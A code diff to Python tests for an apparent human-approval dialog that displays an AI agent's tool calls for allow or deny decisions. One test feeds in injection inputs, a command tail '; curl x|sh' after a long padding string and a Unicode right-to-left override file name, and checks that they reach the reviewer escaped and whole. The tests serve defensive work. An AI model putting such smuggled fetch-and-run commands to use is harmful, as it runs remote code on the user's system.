@@ -77,7 +77,8 @@ async def test_allow_forwards_deny_and_timeout_give_32002(folder: Path) -> None:
             "/etc/hosts",
         ]
         assert shown[0]["agent_id"] == "agent-abc123"
-        assert "Tool: write_file\nArguments:\n  path: /etc/config.yaml" in shown[0]["text"]
+        assert shown[0]["text"].startswith("Agent: agent-abc123\n")
+        assert "Tool: write_file\nArguments (2):\n  path: /etc/config.yaml" in shown[0]["text"]
         lines = approver.decisions()
         assert [(d["decision"], d["reason"]) for d in lines] == [
             ("allow", "human approved"),
@@ -101,8 +102,8 @@ async def test_injection_reaches_the_dialog_escaped(folder: Path) -> None:
     assert all(0x20 <= ord(c) < 0x7F or c == "\n" for c in text)
     assert max(len(line) for line in text.splitlines()) <= 76
     assert "\\u202efdp.sh\\u200b" in text
-    assert "chars omitted]..." in text
-    assert "; curl x|sh" in "".join(line.strip() for line in text.splitlines())
+    assert "chars omitted]..." not in text  # a program gets the whole request
+    assert "A" * 100_000 + "; curl x|sh" in "".join(line.strip() for line in text.splitlines())
 
 
 def test_proxy_killed_mid_ask_closes_the_dialog(folder: Path) -> None:
